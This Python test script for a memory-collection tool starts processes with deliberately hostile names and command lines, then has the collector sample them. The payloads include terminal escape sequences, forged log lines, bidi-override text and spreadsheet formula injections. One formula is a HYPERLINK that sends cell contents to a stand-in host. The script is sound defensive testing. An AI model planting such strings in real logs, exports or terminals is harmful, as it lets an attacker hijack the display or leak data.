# SPDX-License-Identifier: GPL-2.0-or-later
# Runs in a private pid namespace (tests/hostile/run.sh): starts processes
# whose names and command lines are hostile, has the real memcollect sample
# them into ARCHIVE three times, and ends them.  Each holds some memory so
# that every chart and ranking shows it.
import os, subprocess, sys, time

ARCHIVE, MC = sys.argv[1], sys.argv[2]
if len(sys.argv) > 3:   # a private UTS namespace: the host name is hostile too
    import socket
    socket.sethostname(bytes.fromhex(sys.argv[3]))
# comm is at most 15 bytes
NAMES = [b'\x1b]0;pwn\x07', b'a\nb\r\nc', b'c1\xc2\x9b[2J\xc2\x85', b'bad\xff\xfe', b'del\x7fx',
         b'nc\xef\xbf\xbe\xef\xbf\xbf', b'=1+1', b'+1+1', b'-1+1', b'@SUM(1)', b'\t=1+1', b'\r=1+1',
         b'=HYPERLINK("htt', b'rtl\xe2\x80\xaeab\xe2\x80\xa8c']
ARGV0 = ['=HYPERLINK("http://x/?"&A1,"y")', '\x1b]2;pwn\x07\r\nforged line\x1b[2J', '-2+3']
HOLD = r'''
import os, sys, time
open('/proc/self/comm', 'wb').write(bytes.fromhex(sys.argv[1]))
block = bytearray(int(sys.argv[2]) << 20)
for i in range(0, len(block), 4096):
    block[i] = 1
open(sys.argv[3], 'w').close()
time.sleep(600)
'''
kids, ready = [], []
for i, name in enumerate(NAMES):
    flag = 'ready.%d' % i
    kids.append(subprocess.Popen([sys.executable, '-c', HOLD, name.hex(), str(4 + i), flag]))
    ready.append(flag)
for i, arg0 in enumerate(ARGV0):   # argv[0] as given: the command line starts with it
    flag = 'ready.a%d' % i
    kids.append(subprocess.Popen([arg0, '-c', HOLD, ('argv%d' % i).encode().hex(),
                                  str(20 + i), flag], executable=sys.executable))
    ready.append(flag)
deadline = time.time() + 30
while not all(os.path.exists(f) for f in ready) and time.time() < deadline:
    time.sleep(0.05)
time.sleep(0.2)
rc = subprocess.run([MC, '1', '3', ARCHIVE]).returncode
for k in kids:
    k.kill()
    k.wait()
sys.exit(rc)
